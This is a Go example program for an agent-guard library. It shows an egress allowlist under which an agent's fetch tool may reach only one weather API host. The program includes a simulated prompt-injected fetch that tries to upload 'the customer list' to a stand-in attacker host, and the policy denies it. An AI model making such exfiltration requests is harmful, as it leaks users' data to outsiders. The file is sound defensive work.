// Command egress shows an egress allowlist: a tool whose HTTP client may
// reach only one API host.
//
// The agent's fetch tool gets a URL from the model. Its HTTP client goes
// through agentguard.Transport, so every request it makes is a guarded call
// of the pseudo-tool "http", decided by the same policy, rate limits, kill
// switch and audit log as the tools. The policy lets requests made by the
// fetch tool reach api.example.com over HTTPS, and nothing else. When a
// prompt-injected call tries to send data to another host, the request is
// denied before the name is even looked up, and the denial is what the
// tool hands back to the model.
//
// The API is an httptest TLS server on loopback: the example's resolver
// maps api.example.com to it, and AllowCIDRs lets the transport reach its
// loopback address, which egress refuses by default. No network is needed.
//
//	go run ./examples/egress
package main

import (
	"context"
	"errors"
	"fmt"
	"io"
	"net"
	"net/http"
	"net/http/httptest"
	"net/netip"
	"os"
	"strings"
	"sync"

	"github.com/hardstop-labs/agentguard"
	"github.com/hardstop-labs/agentguard/policy"
)

const policyYAML = `
version: 1
default: deny
rules:
  - name: fetch-tool
    match: call.tool == "fetch"
    effect: allow
  - name: weather-api
    match: >
      call.tool == "http" && call.args.caller.tool == "fetch" &&
      call.args.host == "api.example.com" && call.args.scheme == "https" &&
      call.args.method == "GET" && call.args.path.startsWith("/v1/")
    effect: allow
  - name: only-the-weather-api
    match: call.tool == "http" && !hostMatch(call.args.host, "api.example.com")
    effect: deny
    reason: this agent may reach only api.example.com
`

func main() {
	if err := run(os.Stdout); err != nil {
		fmt.Fprintln(os.Stderr, "egress:", err)
		os.Exit(1)
	}
}

// trail is an in-memory audit stage that keeps what the guard records.
type trail struct {
	mu     sync.Mutex
	events []agentguard.Event
}

func (t *trail) Record(_ context.Context, e *agentguard.Event) error {
	t.mu.Lock()
	defer t.mu.Unlock()
	cp := *e
	if e.Call != nil {
		c := *e.Call
		cp.Call = &c
	}
	t.events = append(t.events, cp)
	return nil
}

// FetchArgs are the fetch tool's arguments, as the model gives them.
type FetchArgs struct {
	URL string `json:"url"`
}

func run(w io.Writer) error {
	// The weather API.
	api := httptest.NewTLSServer(http.HandlerFunc(func(rw http.ResponseWriter, r *http.Request) {
		fmt.Fprintf(rw, `{"city":%q,"forecast":"sunny"}`, r.URL.Query().Get("city"))
	}))
	defer api.Close()
	_, port, _ := net.SplitHostPort(api.Listener.Addr().String())
	apiAddr := netip.MustParseAddr("127.0.0.1")

	pol, err := policy.Parse("policy.yaml", []byte(policyYAML))
	if err != nil {
		return err
	}
	rec := &trail{}
	g, err := agentguard.New(agentguard.WithPolicy(pol), agentguard.WithRecorder(rec),
		agentguard.WithDefaultPrincipal(agentguard.Principal{Agent: "weather-bot"}))
	if err != nil {
		return err
	}
	defer g.Close()

	// The resolver stands in for DNS: it knows the API's name only.
	resolve := func(_ context.Context, host string) ([]netip.Addr, error) {
		fmt.Fprintf(w, "resolver: %s\n", host)
		if host == "api.example.com" {
			return []netip.Addr{apiAddr}, nil
		}
		return nil, fmt.Errorf("no such host %q", host)
	}
	// The test server's client trusts its certificate (valid for
	// *.example.com); the guarded transport clones it and dials itself.
	base := api.Client().Transport.(*http.Transport)
	client := &http.Client{Transport: agentguard.Transport(g, base,
		agentguard.EgressResolver(resolve),
		agentguard.AllowCIDRs(apiAddr.String()+"/32"))}
	defer client.CloseIdleConnections()

	fetch := agentguard.Wrap(g, "fetch", func(ctx context.Context, a FetchArgs) (string, error) {
		req, err := http.NewRequestWithContext(ctx, http.MethodGet, a.URL, nil)
		if err != nil {
			return "", err
		}
		resp, err := client.Do(req)
		if err != nil {
			return "", err
		}
		defer resp.Body.Close()
		b, err := io.ReadAll(resp.Body)
		return string(b), err
	})

	ctx := context.Background()
	for _, u := range []string{
		"https://api.example.com:" + port + "/v1/forecast?city=Paris",
		"https://collector.attacker.example:" + port + "/upload?notes=the+customer+list",
	} {
		fmt.Fprintf(w, "agent: fetch %s\n", strings.Replace(u, ":"+port, "", 1))
		out, err := fetch(ctx, FetchArgs{URL: u})
		if err != nil {
			fmt.Fprintf(w, "tool error (what the model reads): %v\n", unwrapURL(err))
			continue
		}
		fmt.Fprintf(w, "tool: %s\n", out)
	}

	fmt.Fprintln(w, "audit trail:")
	rec.mu.Lock()
	defer rec.mu.Unlock()
	for _, e := range rec.events {
		c := e.Call
		switch {
		case e.Kind == agentguard.EventDecision && c.Tool == "http":
			caller := c.Args["caller"].(map[string]any)["tool"]
			fmt.Fprintf(w, "  decision %-5s %-5s %s %s %s (from %s, rule %s)\n", c.Tool, e.Decision, c.Args["method"], c.Args["host"], c.Args["path"], caller, e.Rule)
		case e.Kind == agentguard.EventDecision:
			fmt.Fprintf(w, "  decision %-5s %s\n", c.Tool, e.Decision)
		case e.Kind == agentguard.EventResult:
			fmt.Fprintf(w, "  result   %-5s %s\n", c.Tool, e.Outcome)
		}
	}
	return nil
}

// unwrapURL returns the guard's denial inside the client's *url.Error,
// whose text names the URL; err itself otherwise.
func unwrapURL(err error) error {
	if d, ok := errors.AsType[*agentguard.DeniedError](err); ok {
		return d
	}
	return err
}
